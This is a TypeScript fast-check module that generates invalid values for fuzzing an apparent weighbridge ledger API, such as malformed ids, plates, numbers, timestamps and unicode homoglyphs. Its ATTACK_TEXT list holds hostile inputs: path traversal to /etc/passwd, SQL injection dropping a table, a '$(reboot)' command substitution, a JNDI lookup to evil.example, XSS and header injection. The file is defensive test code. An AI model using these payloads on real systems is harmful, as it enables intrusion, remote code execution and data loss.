import fc from 'fast-check';
import { RawJson, deepJson } from './json-text.js';

/**
 * Values no field of the API may accept, by the kind of field. Each arbitrary here only yields
 * values that are wrong for that kind of field whatever the rest of the request is; the oracles
 * below say what a right value is, independently of the ledger's own schemas (so that a schema
 * that lets something through is caught, not excused).
 */

// ---------------------------------------------------------------------------------------------
// Oracles: what a right value looks like, as the API documents it.

const ID = /^[a-z0-9][a-z0-9-]{0,63}$/;
const TICKET_NO = /^[A-Za-z0-9][A-Za-z0-9-]{0,39}$/;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

/** A plate as printed: the dot and spaces are dropped and ASCII letters upper-cased, no more. */
export function isPlate(value: string): boolean {
  const printed = value.replace(/[·•\s]/g, '').replace(/[a-z]/g, (c) => c.toUpperCase());
  return /^[\u4e00-\u9fa5][A-Z][A-Z0-9]{4,6}[\u4e00-\u9fa5]?$/.test(printed);
}

// ---------------------------------------------------------------------------------------------
// Text.

/** Characters that look harmless, invisible or like others. */
export const UNICODE_TRICKS = [
  '\u200d', // zero-width joiner
  '\u200b', // zero-width space
  '\u200c', // zero-width non-joiner
  '\u2060', // word joiner
  '\u202e', // right-to-left override
  '\u2066', // left-to-right isolate
  '\u0000', // NUL
  '\ud800', // lone high surrogate
  '\udfff', // lone low surrogate
  '\u0301', // combining acute accent
  '\ufffd', // replacement character
  '\uffff', // a noncharacter
  '\u{1f69b}', // an articulated lorry (a surrogate pair)
  '\u0410', // Cyrillic А
  '\u0430', // Cyrillic а
  '\uff21', // fullwidth Ａ
  '\uff11', // fullwidth １
  '\u212a', // Kelvin sign K
  '\u017f', // long s: upper-cases to S
  '\u0131', // dotless ı: upper-cases to I
  '\u00df', // sharp s: upper-cases to SS
  '\ufb00', // ligature ﬀ: upper-cases to FF
  '\u0085', // next line (not whitespace to JavaScript)
] as const;

/** Text an attacker tries in any string field. */
const ATTACK_TEXT = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  '%2e%2e%2f',
  "' or '1'='1",
  "'; drop table events; --",
  '$(reboot)',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '\r\nx-injected: 1',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
] as const;

/** A string with one trick inserted somewhere in `valid`. */
export function withTrick(valid: string): fc.Arbitrary<string> {
  return fc
    .tuple(fc.constantFrom(...UNICODE_TRICKS), fc.nat({ max: valid.length }))
    .map(([trick, at]) => valid.slice(0, at) + trick + valid.slice(at));
}

/** A long run of a character (ids and free text have limits; the body has 4 MiB): mostly just
 * over `min`, sometimes up to `max`. */
export function longString(min: number, max: number): fc.Arbitrary<string> {
  const length = fc.oneof(
    { arbitrary: fc.integer({ min, max: Math.min(max, min + 200) }), weight: 9 },
    { arbitrary: fc.integer({ min, max }), weight: 1 },
  );
  return fc
    .tuple(fc.constantFrom('a', '鲁', '\u200d', '0', '\u{1f69b}'), length)
    .map(([c, n]) => c.repeat(n));
}

/** Built once: each `fc.string` of any code point maps all of Unicode when it is made. */
const ANY_TEXT = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary-ascii', maxLength: 40 }),
);

/** Random text of any script, including characters outside the Basic Multilingual Plane. */
export function anyText(maxLength = 40): fc.Arbitrary<string> {
  return maxLength >= 40 ? ANY_TEXT : ANY_TEXT.map((s) => [...s].slice(0, maxLength).join(''));
}

// ---------------------------------------------------------------------------------------------
// Wrong JSON types.

/** Anything but a string. */
export const notAString: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, false, 0, -1, 1.5, [], {}, ['a'], { value: 'a' }),
  fc.integer(),
  fc.constantFrom(new RawJson('NaN'), new RawJson('undefined')),
);

/** Anything but a number. */
export const notANumber: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, false, [], {}, [15_000], { kg: 15_000 }, '', 'kg'),
  // Digits as a string: a weighbridge's text field sent as is.
  fc.constantFrom('15000', ' 15000', '15000 ', '1.5e4', '0x3a98', '１５０００', '١٥٠٠٠', '15,000'),
  fc.nat().map(String),
);

/** Anything but an object. */
export const notAnObject: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, 0, '', 'object', [], [{}]),
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.string({ maxLength: 10 }),
);

/** Anything but an array. */
export const notAnArray: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, 0, '', 'items', {}, { 0: {}, length: 1 }),
  fc.string({ maxLength: 10 }),
);

/** A value nested thousands deep where a flat one goes. */
export const deepValue: fc.Arbitrary<RawJson> = fc
  .tuple(
    fc.integer({ min: 100, max: 20_000 }),
    fc.constantFrom('array' as const, 'object' as const),
  )
  .map(([depth, shape]) => deepJson(depth, shape));

// ---------------------------------------------------------------------------------------------
// Numbers.

/** Number text JSON.parse refuses, or turns into something other than what was written. */
const RAW_NUMBERS = [
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '1e999',
  '-1e999',
  '2e400',
  '9007199254740993',
  '+15000',
  '015000',
  '.5',
  '15000.',
  '0x3a98',
  '1_5000',
  '1e',
  '-',
].map((text) => new RawJson(text));

/** Numbers that are never whole positive kilograms within a weighing's limit (1–100 000). */
export const badKg: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(0, -1, -15_000, 0.5, 15_000.5, 1e-7, 5e-324, 100_001, 1e21, 1e308, -1e308),
  fc.constantFrom(2 ** 53, -(2 ** 53), Number.MAX_SAFE_INTEGER, 2 ** 31, 2 ** 32 + 1),
  fc.constantFrom(...RAW_NUMBERS),
  fc.integer({ min: -(2 ** 31), max: 0 }),
  fc.integer({ min: 100_001, max: Number.MAX_SAFE_INTEGER }),
  fc
    .double({ noNaN: true, noDefaultInfinity: true, min: -1e12, max: 1e12 })
    .filter((d) => !Number.isInteger(d) || d <= 0 || d > 100_000),
  notANumber,
);

/** Numbers that are not whole numbers from `min` to `max` (bins, axles, capacities). */
export function badWholeNumber(min: number, max = Number.MAX_SAFE_INTEGER): fc.Arbitrary<unknown> {
  return fc.oneof(
    fc.constantFrom(min - 1, min - 0.5, min + 0.5, 1e21, 1e308, -1e308, 2 ** 53),
    fc.constantFrom(...RAW_NUMBERS),
    fc.integer({ min: -(2 ** 31), max: min - 1 }),
    ...(max < Number.MAX_SAFE_INTEGER
      ? [fc.integer({ min: max + 1, max: Number.MAX_SAFE_INTEGER })]
      : []),
    notANumber,
  );
}

// ---------------------------------------------------------------------------------------------
// Identifiers.

/** Not a bureau id (1–64 lower-case letters, digits or dashes, not starting with a dash). */
export const badId: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom('', '-ts', 'TS-1', 'ts_1', 'ts 1', 'ts.1', 'ts/1', 'ts-1\n', ' ts-1', 'ts-ü'),
  fc.constantFrom(...ATTACK_TEXT).filter((s) => !ID.test(s)),
  withTrick('ts-lixia-1'),
  longString(65, 100_000),
  anyText().filter((s) => !ID.test(s)),
  notAString,
);

/** Not a ticket number (1–40 ASCII letters, digits or dashes). */
export const badTicketNo: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom('', '-A1', 'A 1', 'A_1', 'A1\n', 'Ａ0001', 'A0001\u0000'),
  fc.constantFrom(...ATTACK_TEXT).filter((s) => !TICKET_NO.test(s)),
  withTrick('A0001'),
  longString(41, 10_000),
  anyText().filter((s) => !TICKET_NO.test(s)),
  notAString,
);

/** Not a UUID (upper case is a UUID too). */
export const badEventId: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    '',
    'not-a-uuid',
    '7d2b9a10-1c3e-4f5a-8b6c-0d1e2f3a4b5',
    '7d2b9a10-1c3e-4f5a-8b6c-0d1e2f3a4b5c0',
    '{7d2b9a10-1c3e-4f5a-8b6c-0d1e2f3a4b5c}',
    'urn:uuid:7d2b9a10-1c3e-4f5a-8b6c-0d1e2f3a4b5c',
    '7d2b9a101c3e4f5a8b6c0d1e2f3a4b5c',
    '7d2b9a10-1c3e-4f5a-8b6c-0d1e2f3a4b5g',
    '7d2b9a10-1c3e-4f5a-8b6c-0d1e2f3a4b5c\n',
    ' 7d2b9a10-1c3e-4f5a-8b6c-0d1e2f3a4b5c',
    '７d2b9a10-1c3e-4f5a-8b6c-0d1e2f3a4b5c',
  ),
  withTrick('7d2b9a10-1c3e-4f5a-8b6c-0d1e2f3a4b5c'),
  fc.uuid().map((u) => `${u}-${u}`),
  longString(37, 10_000),
  anyText().filter((s) => !UUID.test(s)),
  notAString,
);

/**
 * Not a Chinese plate: homoglyphs (fullwidth digits, Cyrillic letters), invisible characters,
 * letters that only upper-case to ASCII (ſ, ı, ß), wrong lengths.
 */
export const badPlate: fc.Arbitrary<unknown> = fc.oneof(
  fc
    .constantFrom(
      '鲁A·１２３４５',
      '鲁Ａ12345',
      '鲁\u041012345',
      '鲁\u017f12345',
      '鲁\u013112345',
      '鲁A\u00df123',
      '鲁A\ufb00123',
      '鲁A\u212a1234',
      '鲁A\u200d12345',
      '鲁A\u202e12345',
      '\u202e鲁A12345',
      '鲁A12345\u0000',
      '鲁A1234\ud800',
      '鲁A123',
      '鲁A12345678',
      'AB12345',
      '鲁鲁12345',
      '鲁112345',
      '🚛A12345',
      '',
    )
    .filter((p) => !isPlate(p)),
  withTrick('鲁A12345').filter((p) => !isPlate(p)),
  anyText(12).filter((p) => !isPlate(p)),
  longString(9, 10_000).filter((p) => !isPlate(p)),
  notAString,
);

// ---------------------------------------------------------------------------------------------
// Enumerations and free text.

/** A string that is not one of `allowed`: case, spaces, invisible characters, prototype names. */
export function notOneOf(allowed: readonly string[]): fc.Arbitrary<unknown> {
  const first = allowed[0] ?? 'x';
  return fc.oneof(
    fc
      .constantFrom(
        first.toUpperCase(),
        first.charAt(0).toUpperCase() + first.slice(1),
        ` ${first}`,
        `${first} `,
        `${first}s`,
        `${first}\u200b`,
        first.replace(/[aeiou]/, (v) => `${v}\u0301`),
        '',
        '__proto__',
        'constructor',
        'toString',
        'hasOwnProperty',
        'valueOf',
      )
      .filter((s) => !allowed.includes(s)),
    anyText(20).filter((s) => !allowed.includes(s)),
    notAString,
  );
}

/** Free text that must be refused: empty (when `min` is 1), over `max`, NUL or a lone surrogate. */
export function badText(min: 0 | 1, max: number): fc.Arbitrary<unknown> {
  return fc.oneof(
    ...(min === 1 ? [fc.constant('')] : []),
    fc.integer({ min: max + 1, max: max + 5_000 }).map((n) => 'x'.repeat(n)),
    fc.constantFrom('Wang\u0000Lei', '\u0000', 'Wang Lei\ud800', '\udc00', 'a\ud83d'),
    notAString,
  );
}

// ---------------------------------------------------------------------------------------------
// Time.

/** Not an ISO 8601 date-time with an offset, or not a real one. */
export const badTimestamp: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    '2026-03-03T08:15:00',
    '2026-03-03T08:15:00.000',
    '2026-03-03 08:15:00+08:00',
    '2026-03-03t08:15:00z',
    '2026-03-03T08:15:00+0800',
    '2026-03-03T08:15:00 +08:00',
    '2026-03-03T08:15:00+08',
    '2026-02-30T08:15:00+08:00',
    '2026-02-29T08:15:00+08:00',
    '2026-04-31T08:15:00Z',
    '2026-13-01T08:15:00+08:00',
    '2026-00-10T08:15:00+08:00',
    '2026-03-00T08:15:00+08:00',
    '2026-03-03T25:00:00+08:00',
    '2026-03-03T08:60:00+08:00',
    '2026-03-03T08:15:60+08:00',
    '2026-03-03T24:00:01Z',
    '2026-03-03T08:15:00+24:00',
    '2026-03-03T08:15:00+08:60',
    '2026-03-03T08:15:00.1234567+08:00',
    '2026-03-03',
    '08:15:00+08:00',
    '2026-03-03T08:15:00+08:00\n',
    ' 2026-03-03T08:15:00+08:00',
    '２０２６-03-03T08:15:00+08:00',
    '2026-03-03T08:15:00+08:00[Asia/Shanghai]',
    '+002026-03-03T08:15:00+08:00',
    '-000001-01-01T00:00:00Z',
    'Tue, 03 Mar 2026 08:15:00 GMT',
    '1772496900000',
    'now',
    '',
  ),
  // Real instants written without their offset.
  fc
    .date({
      min: new Date('2000-01-01T00:00:00Z'),
      max: new Date('2030-01-01T00:00:00Z'),
      noInvalidDate: true,
    })
    .map((d) => d.toISOString().slice(0, 19)),
  withTrick('2026-03-03T08:15:00+08:00'),
  fc.integer().map((ms) => ms),
  notAString,
);

/** Well-formed instants long after the ledger's clock (which may not run ahead 10 minutes). */
export const futureTimestamp: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('2099-01-01T00:00:00+08:00', '9999-12-31T23:59:59Z', '2100-03-01T00:00:00-12:00'),
  fc
    .date({
      min: new Date('2031-01-01T00:00:00Z'),
      max: new Date('9999-12-31T00:00:00Z'),
      noInvalidDate: true,
    })
    .map((d) => d.toISOString()),
);

/** Well-formed instants before 2020, when no site of the fuzz world had a permit yet. */
export const beforePermits: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('0000-01-01T00:00:00Z', '1970-01-01T00:00:00Z', '2019-12-31T08:00:00+08:00'),
  fc
    .date({
      min: new Date('0000-01-01T00:00:00Z'),
      max: new Date('2019-12-30T00:00:00Z'),
      noInvalidDate: true,
    })
    .map((d) => d.toISOString()),
);

/** Not a calendar date `YYYY-MM-DD`, or not a real one. */
export const badDate: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    '2026-02-30',
    '2026-02-29',
    '2026-13-01',
    '2026-00-01',
    '2026-1-1',
    '26-01-01',
    '2026/01/01',
    '20260101',
    '2026-01-01T00:00:00Z',
    '2026-01-01 ',
    '２０２６-01-01',
    '0000-00-00',
    '+02026-01-01',
    '',
  ),
  withTrick('2026-01-01'),
  notAString,
);
